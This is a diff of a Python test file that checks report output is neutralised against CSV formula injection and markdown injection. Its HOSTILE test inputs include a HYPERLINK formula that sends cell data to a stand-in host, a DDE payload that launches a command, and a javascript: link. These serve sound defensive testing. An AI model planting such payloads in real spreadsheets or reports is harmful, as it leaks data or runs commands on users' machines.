@@ -13,12 +13,12 @@ import pytest
 from unimmad.evaluation.each_modality import EachModality, ModalityRow, _csv
 from unimmad.metrics.metrics import METRIC_KEYS
 from unimmad.report.comparison import OtherReport, compare, write_comparison
-from unimmad.report.csv_text import csv_text, harmless
 from unimmad.report.expert_usage import ClassUsage
 from unimmad.report.report import ClassResult, PublishedRow, Report, mean_of_members
 from unimmad.report.scored_class import ScoredClass
 from unimmad.report.specialisation import Specialisation, datasets_csv, leaders_csv, overlap_csv
-from unimmad.report.tables import escaped, latex_escaped, latex_table, markdown_table, write_image_scores, write_tables
+from unimmad.report.table import Table, harmless, latex_escaped, markdown_escaped
+from unimmad.report.tables import latex_table, markdown_table, write_image_scores, write_tables
 
 FORMULA = '=HYPERLINK("http://x.example?"&A1,"ok")'
 HOSTILE = (FORMULA, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1", "\n=1+1", "＝1+1")  # noqa: RUF001
@@ -42,13 +42,13 @@ def formulas(text: str) -> list[str]:
 def test_a_formula_is_text_and_nothing_else_changes(name: str) -> None:
     expected = f"'{name}".replace("\r", " ")
     assert harmless(name) == expected
-    rows = list(csv.reader(io.StringIO(csv_text([(name, "a=b", 1)]), newline="")))
+    rows = list(csv.reader(io.StringIO(Table((name, "a=b", "1"), ()).to_csv(), newline="")))
     assert rows == [[expected, "a=b", "1"]]
 
 
 @pytest.mark.parametrize("end", ["\r", "\n", "\r\n"])
 def test_a_name_starts_no_row(end: str) -> None:
-    rows = list(csv.reader(io.StringIO(csv_text([(f"a{end}=1+1", "b")]), newline="")))
+    rows = list(csv.reader(io.StringIO(Table((f"a{end}=1+1", "b"), ()).to_csv(), newline="")))
     assert len(rows) == 1
     assert len(rows[0]) == 2
 
@@ -92,13 +92,14 @@ def test_no_other_csv_holds_a_formula(name: str) -> None:
         ("[x](javascript:1)", r"\[x\](javascript:1)"),
         ("![](http://x.example/1.png)", r"!\[\](http://x.example/1.png)"),
         ("`code`", r"\`code\`"),
+        ("**bold** 5*", r"\*\*bold\*\* 5\*"),
         ("a & b", "a &amp; b"),
         ("a\r\nb\u2028c", "a b c"),
         ("plain_name 3 x 3", "plain_name 3 x 3"),
     ],
 )
 def test_markdown_shows_a_name_as_it_is(name: str, expected: str) -> None:
-    assert escaped(name) == expected
+    assert markdown_escaped(name) == expected
 
 
 def test_a_markdown_report_has_no_html_and_no_cell_too_many() -> None:
